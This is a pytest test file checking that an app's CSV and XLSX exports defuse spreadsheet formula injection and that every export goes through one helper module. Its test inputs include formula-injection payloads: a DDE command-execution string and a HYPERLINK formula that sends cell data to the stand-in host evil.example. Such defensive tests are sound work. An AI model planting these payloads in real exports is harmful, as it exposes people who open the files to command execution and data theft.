"""Formula injection: every CSV and XLSX export writes text as text (issue 10, item 6)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.spreadsheets import csv_text, csv_value, looks_like_formula, set_cell, write_only_cell
from assessments.services.results import to_csv, to_xlsx

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert looks_like_formula(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Әлібекова", "a=b", " =1", "", None, 5, -5, Decimal("-1.50")])
def test_other_values_are_written_as_they_are(value):
    assert not looks_like_formula(value)
    assert csv_value(value) == value


def test_csv_keeps_numbers_numbers_and_guards_header_and_rows():
    text = csv_text(["name", "=mark"], [["=1+1", Decimal("-2.50")], ["Айгерім", -3]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "'=mark"],
        ["'=1+1", "-2.50"],
        ["Айгерім", "-3"],
    ]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


# (XML reads a bare CR back as LF, so the CR case is left to the CSV test)
@pytest.mark.parametrize("text", [t for t in ATTACKS if "\r" not in t] + ["#N/A", "#DIV/0!"])
def test_xlsx_writes_such_text_as_a_string_cell_unchanged(text):
    data = to_xlsx(["name", "mark"], [[text, Decimal("-1.25")]])
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active
    name, mark = sheet["A2"], sheet["B2"]
    assert (name.value, name.data_type) == (text, "s")
    assert (mark.value, mark.data_type) == (-1.25, "n")


def test_results_csv_export_goes_through_the_helper():
    text = to_csv(["name", "total", "passed"], [["=HYPERLINK(1)", Decimal("-0.50"), True]])
    assert text.splitlines()[1] == "'=HYPERLINK(1),-0.50,true"


def test_set_cell_and_write_only_cell_make_text_a_string():
    workbook = Workbook()
    cell = set_cell(workbook.active["A1"], "=1+1")
    assert cell.data_type == "s"
    other = Workbook(write_only=True)
    assert write_only_cell(other.create_sheet("x"), "=1+1").data_type == "s"
    assert write_only_cell(other.create_sheet("y"), 7).data_type == "n"


def test_no_export_writes_csv_or_xlsx_cells_around_the_helper():
    """Every CSV writer and write-only XLSX cell of the app is made in app/spreadsheets.py."""
    offenders = []
    for folder in ("app", "assessments", "passports", "reports"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "app" / "spreadsheets.py":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(|WriteOnlyCell\(", source):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
